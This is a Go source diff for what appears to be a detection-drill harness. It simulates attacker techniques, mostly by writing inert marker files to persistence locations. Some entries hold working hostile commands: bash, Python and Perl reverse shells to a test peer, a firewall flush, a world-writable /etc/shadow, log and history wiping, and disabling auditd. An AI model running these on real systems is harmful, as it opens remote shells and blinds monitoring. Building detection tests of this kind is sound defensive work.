@@ -1,0 +1,379 @@
+package drill
+
+import (
+	"context"
+	"encoding/base64"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// parts are what a drill's further processes do.
+var parts map[string]func(*stage) error
+
+// bodies are what drills do, by id.
+var bodies map[string]func(*stage) error
+
+func init() { // they name each other
+	parts = map[string]func(*stage) error{
+		"wait":   func(s *stage) error { <-s.ctx.Done(); return nil },
+		"moment": func(s *stage) error { s.pause(time.Second); return nil },
+		"peer":   beOtherSide,
+		"dial":   func(s *stage) error { return dial(s.ctx, s.args[0], 1) },
+		"send":   func(s *stage) error { return dial(s.ctx, s.args[0], 1<<20) },
+		"shell":  shellFor,
+		"proxy":  handOn,
+		"write":  func(s *stage) error { return write(s.args[0], s.args[1]) },
+		"trace":  traceAndWrite, "dump": traceAndRead, "memory": writeMemory, "foreign": writeForeign,
+		"userns": makeUserNamespace,
+	}
+	bodies = map[string]func(*stage) error{
+		"control-process": func(s *stage) error { return s.sh("true") },
+		"control-files":   adds("/etc/vedette-drill.conf", "# nothing\n"),
+		"control-network": func(s *stage) error { return s.talk(peerSink, "127.0.0.1:8080", s.self("dial", "127.0.0.1:8080").Run) },
+
+		"shell-to-network": func(s *stage) error {
+			return s.talk(peerExit, netPeer+":4444", func() error {
+				return s.run("bash", "-c", "exec 5<>/dev/tcp/"+netPeer+"/4444; bash <&5 >&5 2>&1 0>&1")
+			})
+		},
+		"python-to-network": func(s *stage) error {
+			return s.talk(peerExit, netPeer+":4444", func() error {
+				return s.run("python3", "-c", "import socket,os,subprocess\ns=socket.create_connection(('"+netPeer+"',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh'])")
+			})
+		},
+		"perl-to-network": func(s *stage) error {
+			return s.talk(peerExit, netPeer+":4444", func() error {
+				return s.run("perl", "-e", `use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,pack_sockaddr_in(4444,inet_aton("`+netPeer+`"))); open(STDIN,"<&S"); exec("/bin/sh");`)
+			})
+		},
+		"io-uring":   setUpRing,
+		"cron-entry": adds("/etc/cron.d/vedette-drill", "# a drill's\n"),
+		"at-job":     adds("/var/spool/cron/atjobs/a0000101b8f0aa", "#!/bin/sh\ntrue\n", "/var/spool/at/a0000101b8f0aa", "#!/bin/sh\ntrue\n"),
+		"timer-unit": func(s *stage) error {
+			return errors.Join(write("/etc/systemd/system/vedette-drill.timer", "[Timer]\nOnCalendar=yearly\n"),
+				os.MkdirAll("/etc/systemd/system/timers.target.wants", 0o755),
+				os.Symlink("/etc/systemd/system/vedette-drill.timer", "/etc/systemd/system/timers.target.wants/vedette-drill.timer"))
+		},
+		"start-service": func(s *stage) error {
+			return s.run("systemctl", "--no-block", "start", "vedette-drill-that-is-not-there.service")
+		},
+		"path-interception": func(s *stage) error {
+			dir, err := s.place("/tmp", false)
+			if err == nil {
+				err = s.inert(filepath.Join(dir, "id"))
+			}
+			if err != nil {
+				return err
+			}
+			cmd := s.command(findTool("sh"), "-c", "id")
+			cmd.Env = append(os.Environ(), "PATH="+dir+":"+toolsIn)
+			return attempt(cmd)
+		},
+		"preloaded-library": preload,
+		"preload-list":      adds("/etc/ld.so.preload", "\n"),
+		"service-shell": func(s *stage) error {
+			nginx := filepath.Join(s.scratch, "nginx")
+			if err := copyProgram(nginx); err != nil {
+				return err
+			}
+			cmd := s.copied(nginx, "shell", netPeer+":8080")
+			out, err := cmd.StdoutPipe()
+			if err == nil {
+				err = cmd.Start()
+			}
+			if err != nil {
+				return fmt.Errorf("starting the service: %w", err)
+			}
+			if _, err := out.Read(make([]byte, 16)); err != nil {
+				return fmt.Errorf("waiting for the service: %w", err)
+			}
+			return errors.Join(s.part("dial", netPeer+":8080"), cmd.Wait())
+		},
+
+		"service-unit":   adds("/etc/systemd/system/vedette-drill.service", "[Service]\nExecStart=/bin/true\n"),
+		"authorized-key": adds("/root/.ssh/authorized_keys", "# a drill's\n"),
+		"account-added":  adds("/etc/passwd", "vdrill:x:65533:65534::/nonexistent:/usr/sbin/nologin\n"),
+		"account-changed": func(*stage) error {
+			raw, err := os.ReadFile("/etc/shadow")
+			if err != nil {
+				return lacks("/etc/shadow")
+			}
+			return os.WriteFile("/etc/shadow", raw, 0o640)
+		},
+		"group-joined":    adds("/etc/group", "vdrill:x:65533:\n"),
+		"shell-profile":   adds("/etc/profile.d/vedette-drill.sh", "# a drill's\n", "/root/.bashrc", "# a drill's\n"),
+		"udev-rule":       adds("/etc/udev/rules.d/99-vedette-drill.rules", "# a drill's\n"),
+		"python-startup":  adds("/usr/lib/python3/dist-packages/vedette_drill.pth", "\n"),
+		"package-hook":    adds("/etc/apt/apt.conf.d/99vedette-drill", "// a drill's\n"),
+		"rc-script":       adds("/etc/rc.local", "#!/bin/sh\nexit 0\n"),
+		"autostart-entry": adds("/etc/xdg/autostart/vedette-drill.desktop", "[Desktop Entry]\nHidden=true\n"),
+		"module-autoload": func(*stage) error {
+			var u unix.Utsname
+			if err := unix.Uname(&u); err != nil {
+				return err
+			}
+			return errors.Join(write("/usr/lib/modules/"+unix.ByteSliceToString(u.Release[:])+"/extra/vedette_drill.ko", ""),
+				write("/etc/modules-load.d/vedette-drill.conf", "# a drill's\n"))
+		},
+		"pam-changed": adds("/etc/pam.d/vedette-drill", "# a drill's\n"),
+		"web-shell": func(s *stage) error {
+			who, err := service()
+			if err != nil {
+				return err
+			}
+			if err := errors.Join(os.MkdirAll("/var/www/html", 0o755), os.Chown("/var/www/html", int(who.Uid), int(who.Gid))); err != nil {
+				return fmt.Errorf("making a web root: %w", err)
+			}
+			cmd := s.self("write", "/var/www/html/vedette-drill.php", "")
+			cmd.SysProcAttr.Credential, cmd.Dir = who, "/"
+			return cmd.Run()
+		},
+		"program-replaced": func(s *stage) error {
+			const over = "/usr/sbin/vedette-drill"
+			return errors.Join(s.inert(over+".new"), os.Rename(over+".new", over))
+		},
+		"sleep-masked":  masks("sleep.target"),
+		"socket-filter": filterPackets,
+
+		"sudo-rule": adds("/etc/sudoers.d/vedette-drill", "# a drill's\n"),
+		"setuid-bit": func(s *stage) error {
+			const program = "/usr/local/bin/vedette-drill"
+			return errors.Join(os.MkdirAll("/usr/local/bin", 0o755), s.inert(program), os.Chmod(program, 0o755|os.ModeSetuid))
+		},
+		"ptrace-injection": onSleeper("trace"),
+		"proc-memory":      onSleeper("memory"),
+		"foreign-write":    onSleeper("foreign"),
+		"user-namespace": func(s *stage) error {
+			who, err := service()
+			if err != nil {
+				return err
+			}
+			cmd := s.self("userns")
+			cmd.SysProcAttr.Credential, cmd.Dir = who, "/"
+			return passOn(cmd.Run())
+		},
+		"new-root": changeRoot,
+
+		"memory-program":  runFromMemory,
+		"unpacked-code":   unpack,
+		"kernel-module":   forceModule,
+		"kernel-program":  loadProgram,
+		"fileless-script": fromPlace("/dev/shm", false, "cache", "#!/bin/sh\ntrue\n"),
+		"hidden-program":  fromPlace("/var/tmp", true, "cache", ""),
+		"masquerade":      masquerade,
+		"renamed-tool": func(s *stage) error {
+			dir, err := s.place("/dev/shm", false)
+			if err == nil {
+				err = s.copyTool("cat", filepath.Join(dir, "dbus-helper"))
+			}
+			if err != nil {
+				return err
+			}
+			return attempt(s.command(filepath.Join(dir, "dbus-helper"), "/etc/hostname"))
+		},
+		"kernel-thread-name": func(s *stage) error { return s.named(findTool("sleep"), "[kworker/0:2]", "1") },
+		"broken-tree": func(s *stage) error {
+			err := s.sh("(setsid sh -c 'sleep 0.5; sh -c true' </dev/null >/dev/null 2>&1 &)")
+			s.pause(time.Second)
+			return err
+		},
+		"self-deleted": runDeleted,
+		"history-cut": func(*stage) error {
+			return errors.Join(write("/root/.bash_history", "made up\n"), os.Truncate("/root/.bash_history", 0))
+		},
+		"timestomp": func(s *stage) error {
+			if err := write("/usr/local/bin/vedette-drill", ""); err != nil {
+				return err
+			}
+			return s.run("touch", "-r", "/etc/passwd", "/usr/local/bin/vedette-drill")
+		},
+		"bind-mount": hideProcess,
+		"loader-proxy": func(s *stage) error {
+			loader := firstOf("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1", "/lib/ld-musl-x86_64.so.1")
+			if loader == "" {
+				return lacks("a dynamic loader")
+			}
+			return attempt(s.command(loader, findTool("true")))
+		},
+		"decode-and-run": func(s *stage) error {
+			return s.sh("echo " + base64.StdEncoding.EncodeToString([]byte("true # a drill's")) + " | base64 -d | sh")
+		},
+		"obfuscated-command": func(s *stage) error { return s.run("bash", "-c", `eval "$(printf '\164\162\165\145')"`) },
+		"compile-and-run": func(s *stage) error {
+			dir, err := s.place("/tmp", false)
+			if err == nil {
+				err = write(filepath.Join(dir, "x.c"), "int main(void) { return 0; }\n")
+			}
+			if err != nil {
+				return err
+			}
+			if err := s.run("cc", "-o", filepath.Join(dir, "x"), filepath.Join(dir, "x.c")); err != nil {
+				return err
+			}
+			return attempt(s.command(filepath.Join(dir, "x")))
+		},
+		"interrupts-ignored": func(s *stage) error { return s.run("nohup", "sleep", "0.5") },
+		"extended-attribute": func(*stage) error {
+			const file = "/usr/local/bin/vedette-drill"
+			if err := write(file, ""); err != nil {
+				return err
+			}
+			if err := unix.Setxattr(file, "user.vedette", []byte(strings.Repeat("A", 2048)), 0); err != nil {
+				return lacks(fmt.Sprintf("user attributes on overlays in memory (%v)", err))
+			}
+			return nil
+		},
+
+		"log-cut": func(*stage) error {
+			return errors.Join(write("/var/log/auth.log", "made up\n"), os.Truncate("/var/log/auth.log", 0))
+		},
+		"history-off": func(*stage) error {
+			err := os.Remove("/root/.bash_history")
+			if errors.Is(err, os.ErrNotExist) {
+				err = nil
+			}
+			return errors.Join(err, os.Symlink("/dev/null", "/root/.bash_history"))
+		},
+		"firewall-flushed":  func(s *stage) error { return s.run("nft", "flush", "ruleset") },
+		"certificate-added": adds("/usr/local/share/ca-certificates/vedette-drill.crt", "", "/etc/ssl/certs/vedette-drill.pem", ""),
+		"permissions-widened": func(s *stage) error { return s.run("chmod", "0666", "/etc/shadow") },
+		"audit-changed":       adds("/etc/audit/rules.d/vedette-drill.rules", "-D\n"),
+		"agent-disabled":      masks("auditd.service"),
+	}
+	for id, body := range moreBodies {
+		bodies[id] = body
+	}
+}
+
+// adds writes to files, which are in overlays: path, text, path, text.
+func adds(files ...string) func(*stage) error {
+	return func(*stage) error {
+		for i := 0; i+1 < len(files); i += 2 {
+			if err := write(files[i], files[i+1]); err != nil {
+				return err
+			}
+		}
+		return nil
+	}
+}
+
+// masks a unit where systemd of the host does not look.
+func masks(unit string) func(*stage) error {
+	return func(*stage) error {
+		return errors.Join(os.MkdirAll("/etc/systemd/system", 0o755), os.Symlink("/dev/null", "/etc/systemd/system/"+unit))
+	}
+}
+
+// talk has somebody to talk to while do does.
+func (s *stage) talk(kind, address string, do func() error) error {
+	if err := s.peer(kind, address); err != nil {
+		return err
+	}
+	return do()
+}
+
+// named starts a program with an argument vector that says something else.
+func (s *stage) named(path string, argv ...string) error {
+	if path == "" {
+		return lacks("sleep")
+	}
+	cmd := s.command(path)
+	cmd.Args = argv
+	return attempt(cmd)
+}
+
+// fromPlace runs what lies where it should not: a script, or a copy of true when it has no text.
+func fromPlace(parent string, hidden bool, name, text string) func(*stage) error {
+	return func(s *stage) error {
+		dir, err := s.place(parent, hidden)
+		if err != nil {
+			return err
+		}
+		path := filepath.Join(dir, name)
+		if text == "" {
+			if err := s.inert(path); err != nil {
+				return err
+			}
+			return attempt(s.command(path))
+		}
+		if err := write(path, text); err != nil {
+			return err
+		}
+		return s.run("sh", path)
+	}
+}
+
+func masquerade(s *stage) error {
+	dir, err := s.place("/tmp", false)
+	if err == nil {
+		err = s.inert(filepath.Join(dir, "sshd"))
+	}
+	if err != nil {
+		return err
+	}
+	return s.named(filepath.Join(dir, "sshd"), "/usr/sbin/sshd", "-D")
+}
+
+func firstOf(paths ...string) string {
+	for _, p := range paths {
+		if _, err := os.Stat(p); err == nil {
+			return p
+		}
+	}
+	return ""
+}
+
+// preload copies a library of the host, which changes nothing in a program that has it already.
+func preload(s *stage) error {
+	library := firstOf("/lib/x86_64-linux-gnu/libm.so.6", "/lib/aarch64-linux-gnu/libm.so.6", "/usr/lib64/libm.so.6", "/lib64/libm.so.6")
+	if library == "" {
+		return lacks("libm.so.6")
+	}
+	dir, err := s.place("/tmp", false)
+	if err == nil {
+		err = copyFile(library, filepath.Join(dir, "libcache.so"), 0o755)
+	}
+	if err != nil {
+		return err
+	}
+	cmd := s.command(findTool("true"))
+	cmd.Env = append(os.Environ(), "LD_PRELOAD="+filepath.Join(dir, "libcache.so"))
+	return attempt(cmd)
+}
+
+// handOn accepts one connection and hands it on to the next address.
+func handOn(s *stage) error {
+	return relay(s.ctx, s.args[0], s.args[1])
+}
+
+// onSleeper does a part to a program that it is no parent of.
+func onSleeper(part string) func(*stage) error {
+	return func(s *stage) error {
+		sleeper, err := s.sleeper()
+		if err != nil {
+			return err
+		}
+		err = s.part(part, fmt.Sprint(sleeper.Process.Pid))
+		return errors.Join(err, sleeper.Process.Kill())
+	}
+}
+
+// until waits for a server of this drill to listen.
+func until(ctx context.Context, ready func() bool) error {
+	tick := time.NewTicker(20 * time.Millisecond)
+	defer tick.Stop()
+	for !ready() {
+		select {
+		case <-ctx.Done():
+			return context.Cause(ctx)
+		case <-tick.C:
+		}
+	}
+	return nil
+}
